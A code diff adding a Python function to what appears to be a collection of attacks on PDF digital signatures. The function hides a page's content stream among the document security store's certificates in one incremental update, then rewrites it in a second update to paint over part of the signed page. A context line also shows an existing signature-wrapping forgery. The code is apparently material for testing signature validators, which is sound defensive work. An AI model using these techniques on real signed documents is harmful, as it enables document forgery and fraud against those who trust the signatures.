@@ -409,3 +409,24 @@ def signature_wrapping(pdf: bytes) -> bytes:
     reason = forged.index(b"/Reason (", second) + len(b"/Reason (")
     forged = forged[:reason] + b"\xfe\xff\x00H\x00U\x00Y" + forged[reason + 8 :]
     return forged + b"\n" + signed_part
+
+
+def dss_smuggled_page_change(pdf: bytes) -> bytes:
+    """Two updates that each look like validation data: the first lists page 1's content
+    stream among the DSS's certificates, the second rewrites that "certificate"."""
+    writer = _writer(pdf)
+    page = writer.root["/Pages"]["/Kids"][0].get_object()
+    contents = page.raw_get("/Contents")
+    content_ref = contents if isinstance(contents, generic.IndirectObject) else contents[0]
+    dss = writer.root["/DSS"]
+    dss["/Certs"].append(content_ref)
+    writer.update_container(dss)
+    listed = _written(writer)
+
+    writer = _writer(listed)
+    stream = content_ref.get_object()
+    stream.strip_filters()
+    stream._data = stream.data + b"\nq 1 1 1 rg 90 560 410 80 re f Q"
+    stream._encoded_data = None
+    writer.mark_update(content_ref)
+    return _written(writer)
